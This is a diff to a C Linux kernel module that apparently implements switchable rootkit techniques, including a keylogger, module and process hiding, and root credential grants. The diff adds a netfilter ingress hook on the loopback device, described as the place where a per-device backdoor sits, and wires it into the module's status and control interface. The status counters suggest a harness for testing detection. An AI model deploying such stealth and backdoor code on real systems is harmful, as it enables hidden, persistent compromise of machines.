@@ -26,6 +26,8 @@
  * nf_hook_netns (the same in the network namespace of the process that
  * writes the command, e.g. under `unshare -n`: a container's; the status
  * shows that namespace's inode number, what /proc/PID/ns/net names),
+ * nf_hook_ingress (the same hook among the ingress hooks of init_net's
+ * loopback device, NFPROTO_NETDEV: where a per-device backdoor sits),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
  * task unlinked from the task list), root_pid (a task's cred ids set to 0),
  * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
@@ -430,6 +432,42 @@ static int set_nf_hook_netns(bool on)
 	return 0;
 }
 
+/* The same hook on init_net's loopback device's ingress, held by the
+ * module's reference to the device until switched off. */
+
+static struct nf_hook_ops rk_nf_ingress_ops = {
+	.hook = hook_nf,
+	.pf = NFPROTO_NETDEV,
+	.hooknum = NF_NETDEV_INGRESS,
+	.priority = 0,
+};
+
+static int set_nf_hook_ingress(bool on)
+{
+	struct net_device *dev;
+	int err;
+
+	if (on == !!rk_nf_ingress_ops.dev)
+		return 0;
+	if (!on) {
+		nf_unregister_net_hook(&init_net, &rk_nf_ingress_ops);
+		dev_put(rk_nf_ingress_ops.dev);
+		rk_nf_ingress_ops.dev = NULL;
+		return 0;
+	}
+	dev = dev_get_by_name(&init_net, "lo");
+	if (!dev)
+		return -ENODEV;
+	rk_nf_ingress_ops.dev = dev;
+	err = nf_register_net_hook(&init_net, &rk_nf_ingress_ops);
+	if (err) {
+		rk_nf_ingress_ops.dev = NULL;
+		dev_put(dev);
+		return err;
+	}
+	return 0;
+}
+
 /* ---- (f) hide_module: THIS_MODULE unlinked from the module list ---- */
 
 static struct mutex *module_mutex_p;
@@ -725,14 +763,14 @@ static int rk_show(char *buf, size_t size)
 {
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
-			 "nf_hook_netns %u\nhide_module %d\n"
+			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_module %d\n"
 			 "hide_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
 			 syscall_on, idt_on, text_on, rodata_on, fops_on, keylog_on, nf_hook_on,
-			 nf_hook_net ? nf_hook_net->ns.inum : 0, module_hidden,
+			 nf_hook_net ? nf_hook_net->ns.inum : 0, !!rk_nf_ingress_ops.dev, module_hidden,
 			 hidden_task ? hidden_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
@@ -787,6 +825,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = set_nf_hook(val);
 	else if (!strcmp(name, "nf_hook_netns"))
 		err = set_nf_hook_netns(val);
+	else if (!strcmp(name, "nf_hook_ingress"))
+		err = set_nf_hook_ingress(val);
 	else if (!strcmp(name, "hide_module"))
 		err = set_hide_module(val);
 	else if (!strcmp(name, "hide_pid"))
@@ -871,6 +911,7 @@ static void __exit rk_exit(void)
 	set_keylog(false);
 	set_nf_hook(false);
 	set_nf_hook_netns(false);
+	set_nf_hook_ingress(false);
 	set_hide_module(false);
 	hide_task(0);
 	root_task(0, false);
